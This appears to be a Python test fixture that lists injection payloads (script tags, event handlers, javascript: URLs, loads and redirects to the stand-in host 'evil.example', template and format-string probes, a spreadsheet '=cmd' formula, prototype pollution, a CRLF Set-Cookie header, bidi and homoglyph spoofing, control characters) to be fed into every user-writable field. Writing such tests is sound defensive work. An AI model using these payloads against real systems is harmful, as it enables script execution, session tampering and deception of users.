"""Texts with which somebody tries to become code: in markup, scripts, templates, styles, headers, tables, formats."""

EVIL = "evil.example"
"""A host that no page may ever ask."""

PAYLOADS = (
    "<script>window.__ran=1</script>",
    "<img src=x onerror=window.__ran=2>",
    "<svg onload=window.__ran=3>",
    '"><svg/onload=window.__ran=4>',
    "' autofocus onfocus=window.__ran=5 x='",
    "javascript:window.__ran=6",
    "</script><script>__ran=7</script>",
    "</textarea></title><img src=x onerror=__ran=8>",
    "<iframe src=javascript:parent.__ran=9>",
    '<a href="javascript:__ran=10">сюда</a>',
    f"<base href=//{EVIL}/>",
    f"<meta http-equiv=refresh content=0;url=//{EVIL}>",
    f"<style>@import'//{EVIL}/a'</style>",
    f"red;background:url(//{EVIL}/a)",
    "{{7*7}}${7*7}<%=7*7%>#{7*7}",
    "{{constructor.constructor('__ran=16')()}}",
    "%(name)s %(num)s %s {0} $& $` $1",
    "=cmd|' /C calc'!A1",
    '"},"x":{"__proto__":{"a":1}},"',
    "__proto__",
    "&lt;script&gt;__ran=21&lt;/script&gt;",
    "договор\r\nSet-Cookie: board_session=x",
    "отчёт\u202egpj.exe \u200b\u2066скрыто\u2069",
    "\u0410дмин Aннa Koвaлёвa \u0430\u0308\u20dd",
    "<!--]]><x-spike data-spike>" + "ж" * 20_000,
    "а\x00б",
    "\x1b[31mкрасный\x9b",
)
"""Each in every text that anybody may write; a longer one is cut to what its field takes."""
